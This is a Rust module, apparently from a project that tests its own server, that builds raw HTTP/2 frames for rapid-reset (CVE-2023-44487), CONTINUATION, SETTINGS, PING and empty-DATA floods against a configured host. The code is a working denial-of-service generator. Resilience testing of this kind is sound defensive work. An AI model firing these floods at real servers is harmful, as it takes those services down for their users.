//! HTTP/2 frames (RFC 9113) that no client library would send: the floods.

use crate::pki::HOST;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `:method: GET` and `POST` in the static table (RFC 7541 appendix A).
const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// Frames per write.
const AT_ONCE: u32 = 100;

/// The connection preface.
pub fn opening() -> Vec<u8> {
    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &[]));
    opening
}

/// The kinds of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Commands that are reset immediately (rapid reset, CVE-2023-44487).
    RapidReset,
    Settings,
    Ping,
    /// DATA frames without content.
    EmptyData,
    /// A header block without end (CVE-2024-27316).
    Continuation,
}

impl Flood {
    /// The frames that are sent once, before all others, and the number of commands that they begin.
    pub fn first(self) -> (Vec<u8>, u64) {
        match self {
            Self::RapidReset | Self::Settings | Self::Ping => (Vec::new(), 0),
            Self::EmptyData => (frame(HEADERS, END_HEADERS, 1, &fields(POST)), 1),
            Self::Continuation => (frame(HEADERS, END_STREAM, 1, &fields(GET)), 1),
        }
    }

    /// The n-th portion of the flood, and the number of commands that it begins.
    pub fn portion(self, n: u32) -> (Vec<u8>, u64) {
        let same = |frame: Vec<u8>| (frame.repeat(AT_ONCE as usize), 0);
        match self {
            Self::RapidReset => {
                let first = n * AT_ONCE;
                let frames = (first..first + AT_ONCE).flat_map(|number| begun_and_reset(2 * number + 1));
                (frames.collect(), u64::from(AT_ONCE))
            }
            Self::Settings => same(frame(SETTINGS, 0, 0, &[])),
            Self::Ping => same(frame(PING, 0, 0, &[0; 8])),
            Self::EmptyData => same(frame(DATA, 0, 1, &[])),
            Self::Continuation => same(frame(CONTINUATION, 0, 1, &[0x40, 1, b'a', 1, b'b'].repeat(10))),
        }
    }
}

fn begun_and_reset(stream: u32) -> Vec<u8> {
    let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields(GET));
    frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())); // CANCEL
    frames
}

/// A frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("our payloads are short");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The header block of a request: the method from the static table, the other fields as literals.
fn fields(method: u8) -> Vec<u8> {
    let mut block = vec![method, 0x87]; // :scheme https
    for (name, value) in [(1, HOST), (4, "/cameras/slow")] {
        block.extend([name, u8::try_from(value.len()).expect("our values are short")]);
        block.extend(value.as_bytes());
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_stream_of_a_rapid_reset_is_new() {
        let of = |n| Flood::RapidReset.portion(n).0[5..9].to_vec();
        assert_eq!((of(0), of(1)), (vec![0, 0, 0, 1], vec![0, 0, 0, 201]));
    }
}
